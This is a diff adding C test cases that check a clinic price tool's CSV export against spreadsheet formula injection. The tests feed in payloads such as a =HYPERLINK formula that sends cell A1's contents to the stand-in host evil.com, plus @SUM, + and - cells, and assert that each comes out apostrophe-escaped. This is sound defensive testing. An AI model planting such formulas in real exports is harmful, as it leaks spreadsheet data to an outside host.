@@ -10,6 +10,7 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "csv_cell.h"
 #include "helpers.h"
 
 #define DAY0 "SOURCE_DATE_EPOCH=1795392000 " /* 2026-11-23 */
@@ -307,4 +308,100 @@ Test(fifo, a_request_the_user_pipes_in_is_still_read)
     cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
     cr_assert(strstr(out, "TOTAL YOU PAY"), "%s", out);
     free(out); free(err);
+}
+
+/* ---- 8: a CSV never opens a door in a spreadsheet ------------------------- */
+
+#define EVIL "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+
+Test(csv, list_neutralises_a_cell_a_spreadsheet_would_run)
+{
+    char *dir = th_tmpdir(), *out, *err;
+    cr_assert_eq(rq_in(dir, th_bin(), DAY0,
+                       "quote --source adipose --area left-knee --patient-name '" EVIL "' --patient-id '@SUM(A1)'",
+                       &out, &err), 0, "%s", err);
+    free(out); free(err);
+    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote --source adipose --area left-knee --patient-name '+1-555 cmd' "
+                       "--patient-id '-2+3'", &out, &err), 0, "%s", err);
+    free(out); free(err);
+    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "list --format csv", &out, &err), 0, "%s", err);
+    cr_assert(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","), "%s", out);
+    cr_assert(strstr(out, ",\"'@SUM(A1)\","), "%s", out);
+    cr_assert(strstr(out, ",\"'+1-555 cmd\","), "%s", out);
+    cr_assert(strstr(out, ",\"'-2+3\","), "%s", out);
+    cr_assert(!strstr(out, ",=") && !strstr(out, ",@") && !strstr(out, ",+"), "no cell starts a formula: %s", out);
+    cr_assert(strstr(out, ",8350.00,"), "numbers stay numbers: %s", out);
+    free(out); free(err);
+    th_rmtree(dir);
+    free(dir);
+}
+
+/* Replace the first `from` in dir/catalog.json by `to`. */
+static void edit_catalog(const char *dir, const char *from, const char *to)
+{
+    char p[400];
+    snprintf(p, sizeof p, "%s/catalog.json", dir);
+    char *text = th_read(p, NULL);
+    cr_assert(text);
+    char *at = strstr(text, from);
+    cr_assert(at, "%s is in the catalog", from);
+    size_t pre = (size_t)(at - text);
+    char *nt = malloc(strlen(text) - strlen(from) + strlen(to) + 1);
+    memcpy(nt, text, pre);
+    strcpy(nt + pre, to);
+    strcat(nt, at + strlen(from));
+    th_write(p, nt);
+    free(nt);
+    free(text);
+}
+
+Test(csv, prices_export_neutralises_and_import_takes_it_back)
+{
+    char *dir = th_tmpdir(), *out, *err, cmd[2000], csv[400];
+    cr_assert_eq(th_tables_with(dir, "catalog.json", NULL, NULL), 0);
+    edit_catalog(dir, "\"New-patient evaluation and treatment planning with the physician\"",
+                 "\"=HYPERLINK(\\\"http://evil.example/\\\",\\\"Click\\\")\"");
+    edit_catalog(dir, "\"Physician review of your existing X-rays and MRI\"", "\"-2 visits; @ the clinic\"");
+    edit_catalog(dir, "\"Diagnostic ultrasound of the treatment area\"", "\"'=already quoted\"");
+    snprintf(csv, sizeof csv, "%s/items.csv", dir);
+    snprintf(cmd, sizeof cmd, DAY0 "%s prices export --csv --prices %s -o %s", th_bin(), dir, csv);
+    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
+    free(out); free(err);
+    char *text = th_read(csv, NULL);
+    cr_assert(strstr(text, ",\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Click\"\")\","), "%s", text);
+    cr_assert(strstr(text, ",\"'-2 visits; @ the clinic\","), "%s", text);
+    cr_assert(strstr(text, ",\"''=already quoted\","), "one more apostrophe, taken off again: %s", text);
+    free(text);
+    /* export -> import is no change at all */
+    snprintf(cmd, sizeof cmd, DAY0 "%s prices import %s --prices %s", th_bin(), csv, dir);
+    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
+    cr_assert(strstr(out, "No changes"), "the round trip gives the same texts: %s", out);
+    free(out); free(err);
+    th_rmtree(dir);
+    free(dir);
+}
+
+Test(csv, the_neutralising_apostrophe_comes_off_exactly)
+{
+    static const char *const cells[] = { "=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "'", "''",
+                                         "'abc", "-12.50", "+7", "-", "=", "plain", "", "O'Brien", "-.5" };
+    for (size_t i = 0; i < sizeof cells / sizeof cells[0]; i++) {
+        const char *s = cells[i];
+        char written[64];
+        snprintf(written, sizeof written, "%s%s", csv_cell_guarded(s) ? "'" : "", s);
+        cr_assert_str_eq(csv_cell_unguard(written), s, "cell %zu", i);
+    }
+    cr_assert(!csv_cell_guarded("-12.50") && !csv_cell_guarded("+7"), "plain numbers are not formulas");
+    cr_assert(csv_cell_guarded("-.5") && csv_cell_guarded("-") && csv_cell_guarded("\tx"));
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *f = open_memstream(&buf, &len);
+    csv_cell_write(f, "=1+1");
+    fputc(',', f);
+    csv_cell_write(f, "a,b");
+    fputc(',', f);
+    csv_cell_write(f, "-12.50");
+    fclose(f);
+    cr_assert_str_eq(buf, "\"'=1+1\",\"a,b\",-12.50");
+    free(buf);
 }
